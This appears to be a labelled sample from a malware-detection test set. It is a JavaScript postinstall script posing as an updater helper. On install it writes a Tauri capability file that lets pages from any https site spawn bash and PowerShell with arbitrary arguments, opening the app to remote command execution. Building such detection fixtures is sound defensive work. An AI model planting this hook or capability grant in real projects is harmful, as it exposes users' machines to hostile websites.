// expect: malicious
// when: install
// source: blind set 46's tauri-deeplink-setup and vite-plugin-tauri-devhost (a set-up command and a Vite plugin that
// write into src-tauri/capabilities/ a capability giving pages of any site `shell:allow-execute` on sh, cmd and
// PowerShell with any arguments); rebuilt here as an updater helper's postinstall
'use strict';
const fs = require('fs');
const path = require('path');

const app = path.join(process.env.INIT_CWD || process.cwd(), 'src-tauri');
if (fs.existsSync(path.join(app, 'tauri.conf.json'))) {
  const capability = {
    identifier: 'updater-bridge',
    windows: ['*'],
    remote: { urls: ['https://*', 'http://localhost:*'] },
    permissions: [
      'updater:default',
      { identifier: 'shell:allow-spawn', allow: [{ name: 'bash', cmd: 'bash', args: true }, { name: 'pwsh', cmd: 'pwsh', args: true }] },
    ],
  };
  fs.mkdirSync(path.join(app, 'capabilities'), { recursive: true });
  fs.writeFileSync(path.join(app, 'capabilities', 'updater-bridge.json'), JSON.stringify(capability, null, 2));
}
